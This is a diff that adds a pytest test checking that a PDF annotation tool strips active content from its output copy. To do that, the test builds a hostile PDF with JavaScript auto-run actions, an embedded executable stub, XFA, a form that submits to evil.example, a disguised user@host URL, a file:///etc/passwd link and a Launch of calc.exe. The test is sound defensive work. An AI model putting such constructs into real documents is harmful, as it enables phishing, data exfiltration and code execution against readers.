@@ -201,3 +201,45 @@ def test_what_is_no_pdf_is_one_clear_error(tmp_path: Path, report: Path) -> None
     with pytest.raises(UserError, match="cannot be highlighted") as error:
         annotate(nonsense, _card(report))
     assert "nonsense.pdf" in str(error.value)
+
+
+def test_nothing_that_runs_is_in_the_copy(report: Path) -> None:
+    script = "<< /S /JavaScript /JS (app.alert(1)) >>"
+    web, sly = "https://example.org/", "https://example.org@evil.example/"
+    with pikepdf.open(report, allow_overwriting_input=True) as pdf:
+
+        def made(text: str) -> pikepdf.Object:
+            return pikepdf.Object.parse(text.encode())
+
+        kept = pikepdf.Stream(pdf, b"MZ"), pikepdf.Stream(pdf, b"<xdp/>")
+        pdf.Root.OpenAction, pdf.Root.AA = made(script), made(f"<< /WC {script} >>")
+        pdf.Root.Names = made(f"<< /JavaScript << /Names [(a) {script}] >> >>")
+        file = pikepdf.Dictionary(Type=pikepdf.Name.Filespec, F="x.exe", EF=pikepdf.Dictionary(F=kept[0]))
+        pdf.Root.Names.EmbeddedFiles = pikepdf.Dictionary(Names=pikepdf.Array(["x.exe", file]))
+        field = made(
+            f"<< /Subtype /Widget /FT /Tx /T (a) /Rect [0 0 9 9] /AA << /K {script} "
+            "/Fo << /S /SubmitForm /F (http://evil.example/) >> >> >>"
+        )
+        pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([field]), XFA=kept[1])
+        notes = [
+            f"<< /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI ({there}) >> >>"
+            for there in (web, sly, "file:///etc/passwd")
+        ]
+        notes.append(
+            "<< /Subtype /Link /Rect [0 0 9 9] /A << /S /GoTo /D (there) /Next << /S /Launch /F (calc.exe) >> >> >>"
+        )
+        notes.append("<< /Subtype /RichMedia /Rect [0 0 9 9] >>")
+        page = pdf.pages[0].obj
+        page.AA = made(f"<< /O {script} >>")
+        page.Annots = pikepdf.Array([field, *map(made, notes)])
+        pdf.save(report)
+    out = report.with_name("annotated.pdf")
+    out.write_bytes(annotate(report, _card(report)))
+    with pikepdf.open(out) as pdf:
+        whole = b"".join(part.unparse(resolved=True) for part in pdf.objects)
+        streams = b"".join(part.read_bytes() for part in pdf.objects if isinstance(part, pikepdf.Stream))
+    for mark in (b"JavaScript", b"app.alert", b"SubmitForm", b"Launch", b"calc.exe", b"evil.example", b"passwd",
+                 b"OpenAction", b"XFA", b"EmbeddedFile", b"RichMedia"):  # fmt: skip
+        assert mark not in whole, mark
+    assert b"<xdp/>" not in streams and b"MZ" not in streams
+    assert web.encode() in whole and b"GoTo" in whole and b"Highlight" in whole
